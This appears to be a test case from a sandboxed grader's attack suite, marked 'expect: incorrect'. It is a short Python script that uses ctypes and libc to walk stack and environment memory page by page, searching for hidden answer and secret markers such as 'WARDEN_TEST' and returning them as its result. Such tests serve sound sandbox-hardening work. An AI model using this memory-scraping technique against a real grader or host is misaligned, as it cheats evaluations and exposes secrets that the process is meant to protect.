# attack: reads the stack above and below its own frames, arguments and environment at its bottom included
# expect: incorrect
import ctypes

libc = ctypes.CDLL(None)
vector = (ctypes.c_ubyte * 1)()
words = [one.encode() + b"word" for one in ("answer", "stranger", "secret", "othercourse")]
words.append(b"WARDEN_" + b"TEST")
here = []


@ctypes.CFUNCTYPE(ctypes.c_int, ctypes.POINTER(ctypes.c_int), ctypes.POINTER(ctypes.c_int))
def compare(one, other):
    here.append(ctypes.addressof(one.contents))
    return 0


pair = (ctypes.c_int * 2)()
libc.qsort(pair, 2, 4, compare)
libc.environ = None
environ = ctypes.c_void_p.in_dll(libc, "environ").value
found, pages = [], 0
for start in (environ, ctypes.cast(environ, ctypes.POINTER(ctypes.c_void_p))[0]):
    for step in (4096, -4096):
        page = start & ~4095
        while libc.mincore(ctypes.c_void_p(page), ctypes.c_size_t(4096), vector) == 0:
            data = ctypes.string_at(page, 4096)
            pages += 1
            for word in words:
                at = data.find(word)
                if at >= 0 and (data[at + len(word) : at + len(word) + 1].isdigit() or word.isupper()):
                    found.append(data[at : at + 40])
            page += step


def code(n):
    return found or -1 if pages else "no stack was found"


share = code
